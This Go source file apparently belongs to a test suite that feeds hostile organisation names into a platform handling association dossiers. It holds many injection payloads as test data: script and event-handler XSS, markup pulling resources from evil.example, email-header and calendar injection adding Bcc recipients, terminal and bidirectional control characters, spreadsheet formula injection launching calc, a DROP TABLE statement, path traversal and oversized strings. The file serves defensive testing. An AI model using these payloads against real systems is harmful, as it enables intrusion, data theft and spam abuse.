package main

import (
	"encoding/json"
	"fmt"
	"strings"
)

// attack is one way to write a name that does more than name. The name holds a
// mark, which its reader must find again; variants are told apart by n, from 0 to 3.
type attack struct {
	kind string
	text func(mark string, n int) string
	// escaped: text is the inside of a JSON string, sent as it is.
	escaped bool
	// blank: there is nothing to see in it, and so no mark.
	blank bool
	// siret: it is typed in the place of a SIRET too.
	siret bool
}

// name is what the platform's JSON holds.
func (a attack) name(mark string, n int) any {
	if a.escaped {
		return json.RawMessage(`"` + a.text(mark, n) + `"`)
	}
	return a.text(mark, n)
}

// around puts a mark between two texts.
func around(before, after string) func(string, int) string {
	return func(mark string, _ int) string { return before + mark + after }
}

// oneOfFour gives each variant its own text, with %s for the mark.
func oneOfFour(texts ...string) func(string, int) string {
	return func(mark string, n int) string { return fmt.Sprintf(texts[n%len(texts)], mark) }
}

const tenMegabytes = 10 << 20

// attacks are what a hundred hostile dossiers are made of: each serves four.
var attacks = []attack{
	{kind: "script", text: around("<script>alert(1)</script>", `<img src=x onerror=alert(1)><svg/onload=alert(2)>`)},
	{kind: "attribute", text: around(`"'><a href=x onclick=alert(1)>`, `" onmouseover="alert(1)" style='x:expression(1)' x='`)},
	{kind: "closing", text: oneOfFour(
		`</title></bdi></p></td></table><h1>%s</h1><iframe src=//evil.example>`, `</option></select><form action=//evil.example><input> %s`,
		`--><!--[if mso]><script>%s</script><![endif]--><!--`, `</body></html> %s <link rel=stylesheet href=//evil.example>`)},
	{kind: "style", text: around("", `</style><style>*{display:none}</style>;background:url(//evil.example/a);}body{color:red`)},
	{kind: "entities", text: around("&lt;b&gt;&#x3c;script&#x3e;&amp;amp; ", " &nbsp;&shy;&rlm;&#0;&NewLine;")},
	{kind: "template", text: around("{{.Console}} ", ` {{template "card" .}} {{"{{"}} ${7*7} <%= 7*7 %> %s%n%!d`)},
	{kind: "address", text: oneOfFour("javascript:alert(1)//%s", "[%s](javascript:alert(1))", "data:text/html,%s<b>", "vbscript:%s cid:x@relais")},
	{kind: "header", text: around("", "\r\nBcc: pirate@evil.example\r\nSubject: gagné\r\nContent-Type: text/html\r\n\r\n<b>corps\r\n.\r\nQUIT")},
	{kind: "encoded word", text: around("=?utf-8?q?", "=0D=0ABcc:_pirate@evil.example?= =?utf-8?b?DQpCY2M6IHg=?=")},
	{kind: "calendar", text: around("", "\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/x\r\nATTENDEE:mailto:x@evil.example\\n\\;,:\"")},
	{kind: "lone CR", text: around("\r", "\rATTACH:x\u2028Bcc: x@evil.example\u2029\v\f\u0085Cc: y@evil.example")},
	{kind: "control", text: around("\x00\x1b]0;", "\x07\x1b[2J\x1b[31m\x08\x08\x7f\u009b1m\u0090q\x9c\x00"), siret: true},
	{kind: "direction", text: around("\u202e\u2067", "\u202c\u2066\u2068\u200f\u061c\u200e fdp.exe\u202d"), siret: true},
	{kind: "zero width", text: func(mark string, _ int) string {
		return "\u200b\u2060" + mark[:3] + "\u200c\u200d\u00ad\ufeff\u180e\u034f" + mark[3:] + "\u2064\u115f\u3164\ufe0f"
	}},
	{kind: "tags", text: around("\ufeff\ufffe", "\uffff\U000e0001\U000e0041\U000e007f\ufff9\ufffb\U0010ffff\ue000")},
	{kind: "stacks", text: func(mark string, _ int) string {
		return strings.Repeat("\u0336\u0489", 40) + mark + strings.Repeat("\u0300\u0325\u20e4", 100) + "x" + strings.Repeat("\u0f71\u0334", 200)
	}},
	{kind: "astral", text: around("👩‍👩‍👧‍👦🏳️‍🌈 ", " 𠜎𝄞🇫🇷🤦🏽‍♂️")},
	{kind: "surrogate", text: around(`\ud800 `, ` \udfff\udbff\ud83d \udc00\ud800`), escaped: true},
	{kind: "no blank", text: func(mark string, n int) string {
		return mark + strings.Repeat([]string{"W", "﷽", "\u00a0.", "&<"}[n], 300)
	}},
	{kind: "megabytes", text: func(mark string, n int) string {
		return mark + strings.Repeat([]string{"é ", "A", "\u0301", "<b>"}[n], []int{tenMegabytes / 3, tenMegabytes / 4, 20_000, 2_000}[n])
	}},
	{kind: "formula", text: oneOfFour("=cmd|' /C calc'!A0 %s", "+1+%s|2", "@SUM(1) %s", "\t＝1+1 %s"), siret: true},
	{kind: "separators", text: around("", "\";\"=1+1\";,|\t'; DROP TABLE dossiers; --\n\"-2+3\"\n;=1")},
	{kind: "path", text: oneOfFour("../../../etc/%s%%00.pdf", `C:\windows\%s.exe`, "%s 99999999999999999999999999999999e400", "-%s/CON.pdf"), siret: true},
	{kind: "blank", text: func(_ string, n int) string {
		return []string{"", " \u00a0\t\u3000 ", "\u200b\u2060\u00ad\ufeff", "\u202e\u2069\x00\u200d\u3164"}[n]
	}, blank: true},
	{kind: "scripts", text: oneOfFour("𝕬𝖘𝖘𝖔𝖈 %s ①②ﬁ", "Ассоциация %s Αθήνα", "جمعية %s الأمل", "协会 %s हिन्दी ไทย")},
}

// calm is what the harmless twin of a hostile text says.
func (a attack) calm(mark string) string {
	if a.blank {
		return ""
	}
	return "Association " + mark
}
